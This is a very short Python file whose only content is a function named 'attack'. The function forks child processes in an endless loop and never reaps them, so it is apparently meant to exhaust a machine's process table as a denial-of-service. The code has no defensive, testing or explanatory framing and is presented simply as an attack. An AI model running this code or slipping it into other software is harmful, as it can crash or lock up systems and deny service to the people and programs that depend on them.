import os


def attack():
    while True:
        if os.fork() == 0:
            os._exit(0)
